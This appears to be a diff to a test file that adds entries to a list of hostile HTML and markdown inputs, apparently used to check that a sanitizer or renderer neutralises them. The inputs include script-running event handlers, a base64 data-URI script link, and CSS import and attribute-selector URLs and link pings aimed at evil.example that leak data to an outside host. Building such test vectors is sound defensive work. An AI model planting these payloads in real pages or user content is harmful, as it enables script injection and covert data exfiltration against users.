@@ -63,6 +63,12 @@ VECTORS = (
     '<details open ontoggle="alert(7)"><summary>x</summary></details>',
     '<math><mtext><style><img src="https://evil.example/25.png" onerror="alert(8)"></style></mtext></math>',
     '" onmouseover="alert(9)" x="',
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=)",
+    '<img src="data:image/svg+xml,<svg onload=alert(11)>">',
+    "<style>@import 'https://evil.example/28.css'; q[v^=a]{background:url(https://evil.example/29)}</style>",
+    '<svg><use href="https://evil.example/30.svg#x"/><animate onbegin="alert(12)" attributeName="x"/></svg>',
+    '<a href="https://evil.example/31" ping="https://evil.example/32">x</a>',
+    "[9]: https://evil.example/33\n\nSee [9] and [the source][9]",
 )
 HOSTILE = "\n\n".join(VECTORS)
 ECHO = "Repeat"
